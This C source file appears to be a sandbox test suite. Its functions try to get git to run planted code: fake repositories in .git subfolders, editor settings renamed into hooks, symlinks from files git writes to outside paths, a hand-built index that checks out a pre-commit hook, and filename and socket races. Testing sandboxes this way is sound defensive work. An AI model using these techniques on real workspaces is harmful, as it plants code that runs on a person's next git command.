/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks that fill a directory where one kind of name is harmless, and bring it to where it is
 * not: by a rename, a link, a pointer, or by what makes git take it for a repository. The argument
 * is the command that would run. */
#include "evil.h"

#include <linux/fs.h>
#include <sys/socket.h>
#include <sys/un.h>

/* Objects and logs are written freely. */
static int attack_part_as_repository(char **arguments)
{
	(void)arguments;
	make_evil_repository("deep/er/.git/objects");
	mkdir("new", 0755);
	return verdict(put("new/.git", "gitdir: ../deep/er/.git/objects\n") == 0,
		       "a repository in its objects");
}

static int attack_part_renamed(char **arguments)
{
	(void)arguments;
	mkdir("deep/er/.git/lfs", 0755);
	make_evil_repository("deep/er/.git/lfs/x");
	if (rename("deep/er/.git/lfs", "deep/er/.git/modules") < 0)
		rename("deep/er/.git/lfs/x", "deep/er/.git/modules");
	mkdir("new", 0755);
	return verdict(put("new/.git", "gitdir: ../deep/er/.git/modules/x\n") == 0,
		       "a part renamed to hold submodules");
}

static int attack_part_of_that_name(char **arguments)
{
	(void)arguments;
	mkdir("deep/er/.git/modules", 0755);
	make_evil_repository("deep/er/.git/modules/objects");
	mkdir("new", 0755);
	return verdict(put("new/.git", "gitdir: ../deep/er/.git/modules/objects\n") == 0,
		       "a submodule that is called objects");
}

static int attack_nested_in_part(char **arguments)
{
	(void)arguments;
	mkdir("deep/er/.git/objects/x", 0755);
	make_evil_repository("deep/er/.git/objects/x/.git");
	if (rename("deep/er/.git/objects/x", "x") == 0)
		return verdict(access("x/.git/config", F_OK) == 0, "moved out of the objects");
	return verdict(symlink("deep/er/.git/objects/x", "x") == 0, "linked to in the objects");
}

static int attack_bare_in_part(char **arguments)
{
	(void)arguments;
	make_evil_repository("deep/er/.git/objects/x");
	return verdict(symlink("deep/er/.git/objects/x", "x") == 0, "a bare one in the objects");
}

/* What a person's next commit, fetch or clean-up writes, and where. */
static const char *const written[] = {"COMMIT_EDITMSG", "FETCH_HEAD", "packed-refs", "logs/HEAD"};

static int attack_written_by_link(char **arguments)
{
	static char target[512], path[128];
	bool made = false;

	(void)arguments;
	if (!getcwd(target, sizeof(target) - 64))
		cannot_try("the workspace");
	strcat(target, "/../outside/started");
	put("deep/er/.git/MERGE_MSG", evil_hook);
	for (size_t i = 0; i < ELEMENTS(written); i++) {
		snprintf(path, sizeof(path), "deep/er/.git/%s", written[i]);
		unlink(path);
		made = symlink(target, path) == 0 || made;
	}
	return verdict(made, "a link that git writes to");
}

static int attack_written_by_moved_link(char **arguments)
{
	static char target[512];

	(void)arguments;
	if (!getcwd(target, sizeof(target) - 64))
		cannot_try("the workspace");
	strcat(target, "/../outside/started");
	put("deep/er/.git/MERGE_MSG", evil_hook);
	if (symlink(target, "l") < 0)
		cannot_try("a link");
	unlink("deep/er/.git/COMMIT_EDITMSG");
	mkdir("heads", 0755);
	if (symlink(target, "heads/main") < 0)
		cannot_try("a link");
	rename("deep/er/.git/logs/refs/heads", "deep/er/.git/logs/refs/old");
	if (rename("heads", "deep/er/.git/logs/refs/heads") == 0)
		return verdict(true, "a directory that holds one");
	if (link("l", "deep/er/.git/COMMIT_EDITMSG") == 0)
		return verdict(true, "a second name of one");
	return verdict(rename("l", "deep/er/.git/COMMIT_EDITMSG") == 0, "one that was moved");
}

/* An index with one file, which a person's `git checkout .` would write there. */
static size_t make_index(char *index, const char *path)
{
	char said[64] = "";
	FILE *program;

	put("hook", evil_hook);
	program = popen("git -C deep/er hash-object -w ../../hook", "r");
	if (!program || !fgets(said, sizeof(said), program) || pclose(program) != 0)
		cannot_try("an object");
	memset(index, 0, 512);
	memcpy(index, "DIRC\0\0\0\2\0\0\0\1", 12);
	memcpy(index + 12 + 24, "\0\0\x81\xed", 4); /* a program */
	for (int i = 0; i < 20; i++)
		index[12 + 40 + i] =
			(char)strtoul((char[]){said[2 * i], said[2 * i + 1], 0}, NULL, 16);
	index[12 + 61] = (char)strlen(path);
	strcpy(index + 12 + 62, path);
	return 12 + ((62 + strlen(path) + 8) & ~(size_t)7) + 20;
}

static bool put_index(const char *path, const char *index, size_t length, int flags)
{
	int fd = open(path, O_WRONLY | flags, 0644);
	bool done = fd >= 0 && write(fd, index, length) == (ssize_t)length;

	close(fd);
	return done;
}

static int checked_out_to(const char *path)
{
	static const char there[] = "deep/er/.git/index", beside[] = "deep/er/.git/index.lock";
	char index[512];
	size_t length = make_index(index, path);

	if (put_index(there, index, length, O_TRUNC))
		return verdict(true, "written");
	if (put_index(beside, index, length, O_CREAT) && rename(beside, there) == 0)
		return verdict(true, "renamed over");
	unlink(there);
	if (put_index(there, index, length, O_CREAT) || link(beside, there) == 0)
		return verdict(true, "a new one");
	put_index("index", index, length, O_CREAT);
	return verdict(rename("index", there) == 0 || symlink("../../../index", there) == 0,
		       "moved there");
}

static int attack_checked_out_outside(char **arguments)
{
	(void)arguments;
	return checked_out_to("../../../outside/started");
}

static int attack_checked_out_to_hooks(char **arguments)
{
	(void)arguments;
	return checked_out_to(".git/hooks/pre-commit");
}

static int attack_settings_to_module(char **arguments)
{
	(void)arguments;
	mkdir(".vscode", 0755);
	make_evil_repository(".vscode/x");
	mkdir("deep/er/.git/modules", 0755);
	rename(".vscode/x", "deep/er/.git/modules/x");
	mkdir("new", 0755);
	return verdict(put("new/.git", "gitdir: ../deep/er/.git/modules/x\n") == 0,
		       "from settings to the submodules");
}

static int attack_nested_in_settings(char **arguments)
{
	(void)arguments;
	mkdir(".vscode", 0755);
	mkdir(".vscode/x", 0755);
	make_evil_repository(".vscode/x/.git");
	return verdict(rename(".vscode/x", "x") == 0, "a repository in settings");
}

static int attack_settings_to_repository(char **arguments)
{
	(void)arguments;
	mkdir("new", 0755);
	make_evil_repository("new/.vscode");
	return verdict(rename("new/.vscode", "new/.git") == 0, "one holder becomes another");
}

static int attack_settings_to_hooks(char **arguments)
{
	(void)arguments;
	mkdir("new", 0755);
	mkdir("new/.git", 0755);
	mkdir("new/.git/objects", 0755);
	mkdir("new/.git/refs", 0755);
	put("new/.git/HEAD", "ref: refs/heads/main\n");
	mkdir("new/.zed", 0755);
	put("new/.zed/pre-commit", evil_hook);
	return verdict(rename("new/.zed", "new/.git/hooks") == 0, "settings become hooks");
}

static int attack_below_bare(char **arguments)
{
	(void)arguments;
	mkdir("bare", 0755);
	mkdir("bare/objects", 0755);
	mkdir("bare/refs", 0755);
	mkdir("bare/sub", 0755);
	put("bare/sub/config", evil_config);
	put("bare/sub/HEAD", "ref: refs/heads/main\n");
	mkdir("deep/er/.git/modules", 0755);
	rename("bare/sub", "deep/er/.git/modules/x");
	mkdir("deep/er/.git/modules/x/objects", 0755);
	mkdir("deep/er/.git/modules/x/refs", 0755);
	mkdir("new", 0755);
	return verdict(put("new/.git", "gitdir: ../deep/er/.git/modules/x\n") == 0,
		       "from a repository of one's own to the submodules");
}

/* Git asks only whether it may be entered, and a file that can be executed passes for that. */
static int attack_bare_by_file(char **arguments)
{
	(void)arguments;
	mkdir("bare", 0755);
	put("bare/config", evil_config);
	put("bare/HEAD", "ref: refs/heads/main\n");
	mkdir("bare/refs", 0755);
	return verdict(put("bare/objects", "") == 0, "a file in the place of the objects");
}

static int attack_bare_by_socket(char **arguments)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "bare/objects"};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	(void)arguments;
	mkdir("bare", 0755);
	put("bare/config", evil_config);
	put("bare/HEAD", "ref: refs/heads/main\n");
	mkdir("bare/refs", 0755);
	umask(0);
	return verdict(bind(fd, (struct sockaddr *)&address, sizeof(address)) == 0,
		       "a socket in the place of the objects");
}

/* A repository without the name that was there before: no mount lies over it by its name. */
static char racing[] = "mirror/cinfig";
static volatile bool done;

static void *rewrite(void *data)
{
	(void)data;
	while (!done) {
		racing[8] = 'i';
		linger(300);
		racing[8] = 'o';
		linger(300);
	}
	return NULL;
}

static int attack_bare_there(char **arguments)
{
	bool won = false;
	uint64_t until;

	(void)arguments;
	put("mirror/cinfig", "");
	start_racer(rewrite, NULL);
	for (until = now_ms() + RACE_MS; now_ms() < until && !won;) {
		char text[16] = "";
		int fd = open(racing, O_RDWR);

		if (fd < 0)
			continue;
		won = pread(fd, text, 6, 0) == 6 && memcmp(text, "[core]", 6) == 0;
		if (won && ftruncate(fd, 0) == 0)
			(void)!write(fd, evil_config, strlen(evil_config));
		close(fd);
	}
	done = true;
	return verdict(won, "a race for the configuration of a repository without the name");
}

/* In a directory of the sandbox's own a socket is bound by the kernel, which reads the name again.
 */
static struct sockaddr_un place = {.sun_family = AF_UNIX, .sun_path = "/tmp/socket"};

static void *rewrite_socket(void *data)
{
	(void)data;
	while (!done) {
		memcpy(place.sun_path, "/tmp/socket\0", 13);
		linger(300);
		memcpy(place.sun_path, "bare/objects", 13);
		linger(300);
	}
	return NULL;
}

static int attack_bare_by_socket_race(char **arguments)
{
	uint64_t until;

	(void)arguments;
	mkdir("bare", 0755);
	put("bare/config", evil_config);
	put("bare/HEAD", "ref: refs/heads/main\n");
	mkdir("bare/refs", 0755);
	umask(0);
	start_racer(rewrite_socket, NULL);
	for (until = now_ms() + RACE_MS; now_ms() < until && access("bare/objects", F_OK) < 0;) {
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);

		bind(fd, (struct sockaddr *)&place, sizeof(place));
		close(fd);
		unlink("/tmp/socket");
	}
	done = true;
	return verdict(access("bare/objects", F_OK) == 0, "a race for a socket's name");
}

static int attack_worktree_moved(char **arguments)
{
	(void)arguments;
	mkdir("new", 0755);
	mkdir("new/.git", 0755);
	mkdir("new/.git/objects", 0755);
	mkdir("new/.git/refs", 0755);
	put("new/.git/HEAD", "ref: refs/heads/main\n");
	put("new/.git/config.lock", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\t"
				    "worktreeConfig = true\n");
	rename("new/.git/config.lock", "new/.git/config");
	mkdir("new/.git/worktrees", 0755);
	mkdir("new/.git/worktrees/x", 0755);
	put("new/.git/worktrees/x/commondir", "../..\n");
	put("new/.git/worktrees/x/HEAD", "ref: refs/heads/main\n");
	rename("new/.git", "new/plain");
	return verdict(put("new/plain/worktrees/x/config.worktree", evil_config) == 0 ||
			       put("new/.git/worktrees/x/config.worktree", evil_config) == 0,
		       "a worktree's configuration");
}

static const struct attack attacks[] = {
	{"written-by-link", 1, attack_written_by_link},
	{"written-by-moved-link", 1, attack_written_by_moved_link},
	{"checked-out-outside", 1, attack_checked_out_outside},
	{"checked-out-to-hooks", 1, attack_checked_out_to_hooks},
	{"part-as-repository", 1, attack_part_as_repository},
	{"part-renamed", 1, attack_part_renamed},
	{"part-of-that-name", 1, attack_part_of_that_name},
	{"nested-in-part", 1, attack_nested_in_part},
	{"bare-in-part", 1, attack_bare_in_part},
	{"settings-to-module", 1, attack_settings_to_module},
	{"nested-in-settings", 1, attack_nested_in_settings},
	{"settings-to-repository", 1, attack_settings_to_repository},
	{"settings-to-hooks", 1, attack_settings_to_hooks},
	{"below-bare", 1, attack_below_bare},
	{"bare-by-file", 1, attack_bare_by_file},
	{"bare-by-socket", 1, attack_bare_by_socket},
	{"bare-by-socket-race", 1, attack_bare_by_socket_race},
	{"bare-there", 1, attack_bare_there},
	{"worktree-moved", 1, attack_worktree_moved},
};

int main(int argc, char **argv)
{
	prepare_evil(argc, argv);
	return attack_main(attacks, ELEMENTS(attacks), argc, argv);
}
